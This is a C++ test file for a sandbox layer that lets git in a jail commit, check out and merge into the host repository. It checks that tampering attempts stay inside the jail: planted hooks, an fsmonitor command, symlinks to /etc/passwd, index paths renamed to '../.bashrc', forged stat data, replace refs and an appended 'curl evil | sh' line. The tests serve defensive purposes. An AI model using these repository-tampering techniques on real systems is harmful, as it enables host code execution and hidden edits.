// The git layer (jail/steps/git_state.h): git in a jail commits, checks out
// and merges into the host's repository, while nothing git reads as
// configuration or as a pointer can be changed or added on the host.
// Runs as root and as an unprivileged user (scripts/test.sh).
#include <fcntl.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <chrono>
#include <filesystem>
#include <fstream>
#include <sstream>
#include <thread>

#include "jail/launcher.h"
#include "tests/jail/host_shell.h"
#include "tests/jail/jail_test_support.h"

namespace brig::jail::test {
namespace {

namespace fs = std::filesystem;
using ::testing::HasSubstr;
using namespace std::chrono_literals;

bool present(const std::string& path) {
  struct stat st;
  return ::lstat(path.c_str(), &st) == 0;
}

// Top-level names of `dir`, sorted, one per line.
std::string names(const std::string& dir) {
  std::vector<std::string> v;
  for (const auto& e : fs::directory_iterator(dir)) v.push_back(e.path().filename().string());
  std::sort(v.begin(), v.end());
  std::string out;
  for (const auto& n : v) out += n + "\n";
  return out;
}

constexpr const char* kGit = "git -c user.name=brig -c user.email=brig@example.invalid";

class GitStateTest : public JailTest {
 protected:
  void SetUp() override {
    JailTest::SetUp();
    ws_ = workspace_.path();
    host_sh(ws_, std::string("git init -q -b main . && echo one > f && git add f && ") + kGit +
                     " commit -qm one");
  }

  JailSpec spec() const {
    JailSpec s = base_spec(ws_);
    s.landlock.read_write.push_back("/dev");  // git opens /dev/null read-write
    Mount git;
    git.kind = Mount::Kind::git;
    git.target = ws_ + "/.git";
    git.optional = true;
    git.size_bytes = 16 << 20;
    s.mounts.push_back(git);
    return s;
  }

  ExecRequest sh(const std::string& script) const {
    ExecRequest r;
    r.argv = {"/bin/sh", "-c", script};
    r.env = {"PATH=/usr/bin:/bin", "HOME=/tmp", "LANG=C"};
    r.cwd = ws_;
    return r;
  }

  Ran run(const std::string& script) { return run_jail(spec(), sh(script)); }

  std::string git_dir() const { return ws_ + "/.git"; }

  std::string ws_;
};

TEST_F(GitStateTest, CommitAndCheckoutReachTheHost) {
  const Ran ran = run(std::string("echo two > g && git add g && ") + kGit +
                      " commit -qm two && git checkout -qb topic && " + kGit +
                      " commit -q --allow-empty -m three");
  ASSERT_EQ(ran.outcome.exit_status(), 0) << ran.outcome.to_string() << ran.err;
  EXPECT_EQ(ran.outcome.warning, "");
  EXPECT_EQ(host_sh(ws_, "git log --format=%s"), "three\ntwo\none\n");
  EXPECT_EQ(read_file(git_dir() + "/HEAD"), "ref: refs/heads/topic\n");
  // The index came back too: g is tracked and nothing is staged or changed.
  EXPECT_EQ(host_sh(ws_, "git status --porcelain"), "");
  // Without the jail's cache tree (a forged one would decide what the
  // host's next commit records), and with a trailer git accepts.
  EXPECT_EQ(read_file(git_dir() + "/index").find("TREE"), std::string::npos);
  EXPECT_EQ(host_sh(ws_, "git ls-files"), "f\ng\n");
  host_sh(ws_, std::string(kGit) + " commit -q --allow-empty -m four");
}

TEST_F(GitStateTest, MergeStateCarriesOverToTheNextJailAndIsDeletedThere) {
  host_sh(ws_, std::string("git checkout -qb side && echo side > f && ") + kGit +
                   " commit -qam side && git checkout -q main && echo main > f && " + kGit +
                   " commit -qam main");
  const Ran merge = run(std::string(kGit) + " merge side");
  EXPECT_EQ(merge.outcome.exit_status(), 1) << "the merge conflicts: " << merge.out << merge.err;
  EXPECT_TRUE(present(git_dir() + "/MERGE_HEAD"));
  EXPECT_EQ(host_sh(ws_, "git status --porcelain"), "UU f\n");

  const Ran commit =
      run(std::string("echo both > f && git add f && ") + kGit + " commit -qm merged");
  ASSERT_EQ(commit.outcome.exit_status(), 0) << commit.outcome.to_string() << commit.err;
  EXPECT_FALSE(present(git_dir() + "/MERGE_HEAD")) << "the jail's deletion is written back";
  EXPECT_FALSE(present(git_dir() + "/MERGE_MSG"));
  EXPECT_EQ(host_sh(ws_, "git log -1 --format=%p | wc -w"), "2\n");
  EXPECT_EQ(host_sh(ws_, "git status --porcelain"), "");
}

// What git reads as configuration fails to write, loudly, as before.
TEST_F(GitStateTest, ConfigurationIsReadOnly) {
  const std::string config = read_file(git_dir() + "/config");
  for (const char* attack :
       {"git config core.fsmonitor 'touch /tmp/x'", "echo x > .git/hooks/pre-commit",
        "printf '[core]\\n' >> .git/config", "echo x > .git/info/exclude",
        "echo /etc > .git/objects/info/alternates", "rm -rf .git/hooks", "mv .git .git-away",
        "mv .git/config .git/c", "rm .git/description"}) {
    const Ran ran = run(attack);
    EXPECT_NE(ran.outcome.exit_status(), 0) << attack;
  }
  EXPECT_EQ(read_file(git_dir() + "/config"), config);
  EXPECT_FALSE(present(git_dir() + "/objects/info/alternates"));
  EXPECT_FALSE(present(git_dir() + "/hooks/pre-commit"));
  EXPECT_FALSE(present(ws_ + "/.git-away"));
  EXPECT_TRUE(present(git_dir() + "/description"));
}

// New names at the top of .git (commondir, config.worktree, sequencer
// state) work inside the jail that made them and never reach the host.
TEST_F(GitStateTest, NewTopLevelNamesStayInTheJail) {
  const std::string before = names(git_dir());
  const Ran ran =
      run("echo ../evil > .git/commondir && echo '[core]' > .git/config.worktree && "
          "ln -s ../evil .git/gitdir && mkdir .git/worktrees .git/rebase-merge && "
          "echo 'exec touch /tmp/pwned' > .git/rebase-merge/git-rebase-todo && "
          "echo x > .git/sharedindex.0 && test -s .git/commondir");
  ASSERT_EQ(ran.outcome.exit_status(), 0) << ran.outcome.to_string() << ran.err;
  EXPECT_EQ(names(git_dir()), before);
  EXPECT_EQ(run("test -e .git/commondir").outcome.exit_status(), 1) << "gone with its jail";
}

// A state name the jail turned into a symlink, a directory or a fifo is not
// written back (the host keeps its file), and the caller hears about it.
TEST_F(GitStateTest, StateNamesThatAreNotFilesAreNotWrittenBack) {
  host_sh(ws_, "git rev-parse HEAD > .git/ORIG_HEAD");
  const std::string orig = read_file(git_dir() + "/ORIG_HEAD");
  const Ran ran =
      run("rm .git/ORIG_HEAD && ln -s /etc/passwd .git/ORIG_HEAD && mkdir .git/FETCH_HEAD && "
          "mkfifo .git/MERGE_MSG");
  ASSERT_EQ(ran.outcome.exit_status(), 0) << ran.outcome.to_string() << ran.err;
  EXPECT_THAT(ran.outcome.warning, HasSubstr("3 of the changes"));
  struct stat st;
  ASSERT_EQ(::lstat((git_dir() + "/ORIG_HEAD").c_str(), &st), 0);
  EXPECT_TRUE(S_ISREG(st.st_mode));
  EXPECT_EQ(read_file(git_dir() + "/ORIG_HEAD"), orig);
  EXPECT_FALSE(present(git_dir() + "/FETCH_HEAD"));
  EXPECT_FALSE(present(git_dir() + "/MERGE_MSG"));
  EXPECT_FALSE(present(git_dir() + "/ORIG_HEAD.lock"));
}

// The write-back takes git's own lock: while another git holds it, the
// jail's HEAD is not written over it, and the caller hears about it.
TEST_F(GitStateTest, WriteBackWaitsForGitsLockAndGivesUp) {
  auto jailed = spawn(spec(), sh("git checkout -qb topic && touch ready && sleep 1"));
  ASSERT_TRUE(jailed) << jailed.error().to_string();
  const auto deadline = std::chrono::steady_clock::now() + 30s;
  while (!present(ws_ + "/ready") && std::chrono::steady_clock::now() < deadline)
    std::this_thread::sleep_for(5ms);
  ASSERT_TRUE(present(ws_ + "/ready"));
  { std::ofstream(git_dir() + "/HEAD.lock") << "held by a host git\n"; }
  auto outcome = wait(*jailed, std::nullopt);
  ASSERT_TRUE(outcome) << outcome.error().to_string();
  EXPECT_EQ(outcome->exit_status(), 0) << outcome->to_string();
  EXPECT_THAT(outcome->warning, HasSubstr("could not be written back"));
  EXPECT_EQ(read_file(git_dir() + "/HEAD"), "ref: refs/heads/main\n");
  EXPECT_EQ(read_file(git_dir() + "/HEAD.lock"), "held by a host git\n");
}

// A jail built ahead sees the repository as it is when its command runs.
TEST_F(GitStateTest, JailBuiltAheadSeesLaterHostCommits) {
  auto jailed = spawn_awaiting(spec());
  ASSERT_TRUE(jailed) << jailed.error().to_string();
  host_sh(ws_, std::string(kGit) + " commit -q --allow-empty -m later");
  UniqueFd out(::memfd_create("out", MFD_CLOEXEC));
  UniqueFd err(::memfd_create("err", MFD_CLOEXEC));
  ExecRequest r = sh("git log -1 --format=%s && git status --porcelain");
  r.stdout_fd = out.get();
  r.stderr_fd = err.get();
  ASSERT_TRUE(start_command(*jailed, r, std::nullopt));
  const Ran ran = wait_and_collect(*jailed, out.get(), err.get());
  ASSERT_EQ(ran.outcome.exit_status(), 0) << ran.outcome.to_string() << ran.err;
  EXPECT_EQ(ran.out, "later\n");
}

// When the layer cannot be made (here: objects/info is a symlink, which the
// jail must not write through), .git is read-only as a whole and the caller
// is told; nothing is written back.
TEST_F(GitStateTest, LayerThatCannotBeMadeLeavesGitReadOnly) {
  host_sh(ws_, "rm -rf .git/objects/info && ln -s /nonexistent .git/objects/info");
  const std::string head = read_file(git_dir() + "/HEAD");
  const Ran ran = run("git checkout -qb topic; echo x > .git/commondir; echo done");
  ASSERT_EQ(ran.outcome.exit_status(), 0) << ran.outcome.to_string() << ran.err;
  EXPECT_THAT(ran.outcome.warning, HasSubstr("read-only as a whole"));
  EXPECT_EQ(read_file(git_dir() + "/HEAD"), head);
  EXPECT_FALSE(present(git_dir() + "/commondir"));
}

// What the jail wrote in objects/, refs/ and logs/ reaches the host only at
// its end, as regular files with names and contents git would write: a
// symlink there would make the host's git write anywhere, a fifo hang it.
TEST_F(GitStateTest, SymlinksAndFifosInRefsLogsAndObjectsNeverReachTheHost) {
  TempDir victim;
  const std::string v = victim.path();
  const Ran ran = run("rm .git/logs/HEAD && ln -s " + v +
                      "/log .git/logs/HEAD && mv .git/refs/tags "
                      ".git/refs/tags.old && ln -s " +
                      v +
                      " .git/refs/tags && mkfifo "
                      ".git/refs/heads/zzz && mkdir -p .git/objects/ab && ln -s " +
                      v + "/obj .git/objects/ab/" + std::string(38, 'c') +
                      " && ls -la .git/refs/heads/ >/dev/null");
  ASSERT_EQ(ran.outcome.exit_status(), 0) << ran.outcome.to_string() << ran.err;
  EXPECT_THAT(ran.outcome.warning, HasSubstr("could not be written back"));
  struct stat st;
  ASSERT_EQ(::lstat((git_dir() + "/logs/HEAD").c_str(), &st), 0);
  EXPECT_TRUE(S_ISREG(st.st_mode));
  ASSERT_EQ(::lstat((git_dir() + "/refs/tags").c_str(), &st), 0);
  EXPECT_TRUE(S_ISDIR(st.st_mode));
  EXPECT_FALSE(present(git_dir() + "/refs/heads/zzz"));
  EXPECT_FALSE(present(git_dir() + "/objects/ab/" + std::string(38, 'c')));
  // The host's git writes where it always did.
  host_sh(ws_, std::string(kGit) + " commit -q --allow-empty -m two && git tag v1");
  EXPECT_EQ(names(v), "");
  EXPECT_TRUE(present(git_dir() + "/refs/tags/v1"));
}

// An index whose paths git would not check out (../x, .git/config) would
// make the host's `git checkout -- .` write them; one with skip-worktree
// would hide the jail's edits from `git diff`. Neither is written back.
TEST_F(GitStateTest, AnIndexGitWouldNotWriteIsNotWrittenBack) {
  // An entry added under a harmless name, renamed in the file (same length,
  // checksum redone): what a jail can write without git's help.
  auto planted = [](const std::string& harmless, const std::string& evil) {
    return "b=$(echo evil | git hash-object -w --stdin) && git update-index --add --cacheinfo "
           "100644,$b," +
           harmless +
           " && python3 -c \"import hashlib;p='.git/index';d=open(p,'rb').read()[:-20]"
           ".replace(b'" +
           harmless + "',b'" + evil + "');open(p,'wb').write(d+hashlib.sha1(d).digest())\"";
  };
  for (const std::string& attack :
       {planted("xx/.bashrc", "../.bashrc"), planted("xxxx/config", ".git/config"),
        planted("xxxx/config", ".GIT/config"),
        std::string("echo edit >> f && git update-index --skip-worktree f"),
        std::string("git update-index --split-index"),
        std::string("head -c 100000 /dev/zero > .git/index")}) {
    const std::string before = read_file(git_dir() + "/index");
    const Ran ran = run(attack);
    ASSERT_EQ(ran.outcome.exit_status(), 0) << attack << ": " << ran.err;
    EXPECT_THAT(ran.outcome.warning, HasSubstr("could not be written back")) << attack;
    EXPECT_EQ(read_file(git_dir() + "/index"), before) << attack;
    host_sh(ws_, "git checkout -q -- . && git status --porcelain >/dev/null");
  }
  EXPECT_FALSE(present(ws_ + "/../.bashrc"));
}

// A HEAD git would not write (garbage, or none at all) would make the
// host's git take the workspace itself for a repository, config and all.
TEST_F(GitStateTest, HeadIsNeverDeletedOrReplacedWithGarbage) {
  for (const char* attack : {"echo garbage > .git/HEAD", "rm .git/HEAD",
                             "echo 'ref: refs/heads/../../config' > .git/HEAD",
                             "printf 'ref: refs/heads/main' > .git/HEAD"}) {
    const Ran ran = run(attack);
    ASSERT_EQ(ran.outcome.exit_status(), 0) << attack << ": " << ran.err;
    EXPECT_THAT(ran.outcome.warning, HasSubstr("could not be written back")) << attack;
    EXPECT_EQ(read_file(git_dir() + "/HEAD"), "ref: refs/heads/main\n") << attack;
  }
}

// Deleted branches and reflogs come back; a host lock file is not pinned
// in the jail.
TEST_F(GitStateTest, BranchDeletionReflogsAndLocksBehaveAsInGit) {
  host_sh(ws_, "git branch side && touch .git/stale.lock");
  const Ran ran = run(std::string(kGit) +
                      " commit -q --allow-empty -m two && git branch -D side >/dev/null && rm "
                      ".git/stale.lock");
  ASSERT_EQ(ran.outcome.exit_status(), 0) << ran.outcome.to_string() << ran.err;
  EXPECT_EQ(ran.outcome.warning, "");
  EXPECT_EQ(host_sh(ws_, "git log --format=%s"), "two\none\n");
  EXPECT_EQ(host_sh(ws_, "git branch --list side"), "");
  EXPECT_EQ(host_sh(ws_, "git fsck --no-progress 2>&1 | grep -v dangling | wc -l"), "0\n");
  EXPECT_EQ(host_sh(ws_, "git reflog -1 --format=%gs"), "commit: two\n");
  EXPECT_TRUE(present(git_dir() + "/stale.lock")) << "the jail's rm stayed in the jail";
}

// A pack's index can claim any id for any data, and checking one is git
// index-pack's work: a pack does not come back, and neither do the refs,
// HEAD or index that could name objects only it held.
TEST_F(GitStateTest, APackComesBackWithNothingThatCouldNameIt) {
  const std::string head = read_file(git_dir() + "/refs/heads/main");
  const Ran ran = run(std::string(kGit) +
                      " commit -q --allow-empty -m two && git -c gc.writeCommitGraph=false -c "
                      "repack.updateServerInfo=false gc -q");
  ASSERT_EQ(ran.outcome.exit_status(), 0) << ran.outcome.to_string() << ran.err;
  EXPECT_THAT(ran.outcome.warning, HasSubstr("in a pack"));
  EXPECT_EQ(read_file(git_dir() + "/refs/heads/main"), head);
  EXPECT_EQ(host_sh(ws_, "ls .git/objects/pack | wc -l"), "0\n");
  EXPECT_EQ(host_sh(ws_, "git fsck --no-progress 2>&1 | grep -v dangling | wc -l"), "0\n");
}

// Objects are trusted by their ids: one whose contents are not what its id
// says (here: another blob's bytes under the id of "TODO\n", which the user
// may add later) does not come back.
TEST_F(GitStateTest, ALooseObjectThatIsNotWhatItsIdSaysIsRefused) {
  const Ran ran =
      run("id=$(printf 'TODO\\n' | git hash-object --stdin) && evil=$(printf 'evil\\n' | git "
          "hash-object -w --stdin) && mkdir -p .git/objects/${id%${id#??}} && cp "
          ".git/objects/${evil%${evil#??}}/${evil#??} .git/objects/${id%${id#??}}/${id#??} && echo "
          "$id > /tmp/id");
  ASSERT_EQ(ran.outcome.exit_status(), 0) << ran.outcome.to_string() << ran.err;
  EXPECT_THAT(ran.outcome.warning, HasSubstr("not what its id says"));
  const std::string id = host_sh(ws_, "printf 'TODO\\n' | git hash-object --stdin");
  EXPECT_FALSE(present(git_dir() + "/objects/" + id.substr(0, 2) + "/" + id.substr(2, 38)));
  // The sound one (evil's own) came back.
  EXPECT_EQ(host_sh(ws_, "git cat-file -p $(printf 'evil\\n' | git hash-object --stdin)"),
            "evil\n");
}

// What would change the history the host's git shows, or hide an edit
// from git status, does not come back: a replace ref, a new shallow list,
// forged stat data in the index; nor does rerere's MERGE_RR.
TEST_F(GitStateTest, ReplaceRefsShallowListsAndForgedStatDataAreRefused) {
  const std::string head = host_sh(ws_, "git rev-parse HEAD");
  const Ran replace =
      run("git update-ref refs/replace/" + head.substr(0, 40) + " " + head.substr(0, 40) +
          " && git rev-parse HEAD > .git/shallow && printf "
          "'x\\tf\\0' > .git/MERGE_RR");
  ASSERT_EQ(replace.outcome.exit_status(), 0) << replace.outcome.to_string() << replace.err;
  EXPECT_THAT(replace.outcome.warning, HasSubstr("could not be written back"));
  EXPECT_FALSE(present(git_dir() + "/refs/replace"));
  EXPECT_FALSE(present(git_dir() + "/shallow"));
  EXPECT_FALSE(present(git_dir() + "/MERGE_RR"));

  // A packed-refs git would misread: refs out of order (git binary-searches
  // them) or a peeled line with no ref before it.
  for (const char* packed :
       {"printf '# pack-refs with: peeled fully-peeled sorted \\n%s refs/heads/z\\n%s "
        "refs/heads/a\\n' $(git rev-parse HEAD) $(git rev-parse HEAD) > .git/packed-refs",
        "printf '^%s\\n' $(git rev-parse HEAD) > .git/packed-refs"}) {
    const Ran ran = run(packed);
    ASSERT_EQ(ran.outcome.exit_status(), 0) << packed << ": " << ran.err;
    EXPECT_THAT(ran.outcome.warning, HasSubstr("could not be written back")) << packed;
    EXPECT_FALSE(present(git_dir() + "/packed-refs")) << packed;
  }
  const Ran sorted = run("git pack-refs --all");
  ASSERT_EQ(sorted.outcome.exit_status(), 0) << sorted.err;
  EXPECT_EQ(sorted.outcome.warning, "");
  EXPECT_TRUE(present(git_dir() + "/packed-refs"));

  // An edit, then the index given the edited file's stat data but the old
  // blob: git would trust it and never look at the file.
  const Ran forged =
      run("echo 'curl evil | sh' >> f && sleep 1.1 && python3 -c \"import hashlib,os,struct\n"
          "p='.git/index'; d=bytearray(open(p,'rb').read()[:-20]); st=os.stat('f')\n"
          "d[12:52]=struct.pack('>IIIIIIIIII', int(st.st_ctime), st.st_ctime_ns%10**9, "
          "int(st.st_mtime), st.st_mtime_ns%10**9, st.st_dev&0xffffffff, st.st_ino&0xffffffff, "
          "0o100644, st.st_uid, st.st_gid, st.st_size)\n"
          "open(p,'wb').write(bytes(d)+hashlib.sha1(bytes(d)).digest())\" && git status "
          "--porcelain");
  ASSERT_EQ(forged.outcome.exit_status(), 0) << forged.outcome.to_string() << forged.err;
  EXPECT_EQ(forged.out, "") << "the forgery works on git as such";
  EXPECT_EQ(host_sh(ws_, "git status --porcelain"), " M f\n");
}

// Refs that would change what the host's git shows, whichever way they
// come: a replace ref in packed-refs, HEAD on a tag (the host's next commit
// would move it); peeled lines, which git trusts as what a tag points to,
// and the index's resolve-undo data are dropped.
TEST_F(GitStateTest, PackedReplaceRefsHeadOnATagPeeledLinesAndResolveUndo) {
  const std::string head = host_sh(ws_, "git rev-parse HEAD").substr(0, 40);
  const Ran replace =
      run("printf '# pack-refs with: peeled fully-peeled sorted \\n%s "
          "refs/heads/main\\n%s refs/replace/%s\\n' " +
          head + " " + head + " " + head + " > .git/packed-refs");
  ASSERT_EQ(replace.outcome.exit_status(), 0) << replace.err;
  EXPECT_THAT(replace.outcome.warning, HasSubstr("could not be written back"));
  EXPECT_FALSE(present(git_dir() + "/packed-refs"));

  const Ran tag_head = run(std::string(kGit) + " tag v1 && git symbolic-ref HEAD refs/tags/v1");
  ASSERT_EQ(tag_head.outcome.exit_status(), 0) << tag_head.err;
  EXPECT_THAT(tag_head.outcome.warning, HasSubstr("could not be written back"));
  EXPECT_EQ(read_file(git_dir() + "/HEAD"), "ref: refs/heads/main\n");

  const Ran peeled = run(std::string(kGit) + " tag -a -m one v2 && git pack-refs --all");
  ASSERT_EQ(peeled.outcome.exit_status(), 0) << peeled.err;
  EXPECT_EQ(peeled.outcome.warning, "");
  const std::string packed = read_file(git_dir() + "/packed-refs");
  EXPECT_EQ(packed.find('^'), std::string::npos) << packed;
  EXPECT_EQ(packed.find("peeled"), std::string::npos) << packed;
  EXPECT_EQ(host_sh(ws_, "git describe"), "v2\n");

  host_sh(ws_, std::string("git checkout -qb side && echo side > f && ") + kGit +
                   " commit -qam side && git checkout -q main && echo main > f && " + kGit +
                   " commit -qam main");
  const Ran resolved =
      run(std::string(kGit) + " merge side >/dev/null; echo both > f && git add f");
  ASSERT_EQ(resolved.outcome.exit_status(), 0) << resolved.err;
  EXPECT_EQ(resolved.outcome.warning, "");
  EXPECT_EQ(read_file(git_dir() + "/index").find("REUC"), std::string::npos);
  EXPECT_EQ(host_sh(ws_, "git diff --cached --stat | tail -1 | grep -c changed"), "1\n");
}

// Jails ending together write back side by side: each object arrives
// whole, under its own temporary name.
TEST_F(GitStateTest, JailsEndingTogetherKeepEachOthersObjects) {
  std::vector<std::unique_ptr<RunningJail>> jails;
  for (int i = 0; i < 4; ++i) {
    auto j = spawn(spec(), sh("for n in $(seq 50); do echo " + std::to_string(i) +
                              "-$n | git hash-object -w --stdin >/dev/null; done"));
    ASSERT_TRUE(j) << j.error().to_string();
    jails.push_back(std::make_unique<RunningJail>(std::move(*j)));
  }
  for (auto& j : jails) {
    auto o = wait(*j, std::nullopt);
    ASSERT_TRUE(o) << o.error().to_string();
    EXPECT_EQ(o->exit_status(), 0) << o->to_string();
    EXPECT_EQ(o->warning, "");
  }
  for (int i = 0; i < 4; ++i)
    for (int n : {1, 25, 50})
      EXPECT_EQ(host_sh(ws_, "git cat-file -p $(echo " + std::to_string(i) + "-" +
                                 std::to_string(n) + " | git hash-object --stdin)"),
                std::to_string(i) + "-" + std::to_string(n) + "\n");
  EXPECT_EQ(host_sh(ws_, "ls .git/objects/*/ | grep -c tmp_ || true"), "0\n");
}

// As root serving another user, the jail's init is host root and the
// command that user: git still commits (the private layer is owned like the
// repository), and what comes back is the user's, not root's.
TEST_F(GitStateTest, ForAnotherUsersRepositoryEverythingWrittenBackIsTheirs) {
  if (::geteuid() != 0) GTEST_SKIP() << "only root runs a jail as another user";
  constexpr uid_t kUser = 4242;
  host_sh(ws_, "rm -rf .git/objects/info && chown -R 4242:4242 .");
  JailSpec s = spec();
  s.identity = {kUser, kUser, kUser, kUser};
  const Ran ran = run_jail(
      s, sh(std::string(kGit) + " commit -q --allow-empty -m two && git checkout -qb topic && "
                                "echo x | git hash-object -w --stdin >/dev/null"));
  ASSERT_EQ(ran.outcome.exit_status(), 0) << ran.outcome.to_string() << ran.err;
  EXPECT_EQ(ran.outcome.warning, "");
  EXPECT_EQ(host_sh(ws_, "git -c safe.directory='*' log --format=%s"), "two\none\n");
  EXPECT_EQ(host_sh(ws_, "find .git ! -uid 4242 | wc -l"), "0\n");
}

// A .git file (a linked worktree's pointer) is pinned read-only.
TEST_F(GitStateTest, GitFileIsReadOnly) {
  host_sh(ws_, "rm -rf .git && echo 'gitdir: /nonexistent' > .git");
  const Ran ran = run("echo 'gitdir: fake' > .git");
  EXPECT_NE(ran.outcome.exit_status(), 0);
  EXPECT_EQ(read_file(ws_ + "/.git"), "gitdir: /nonexistent\n");
}

}  // namespace
}  // namespace brig::jail::test
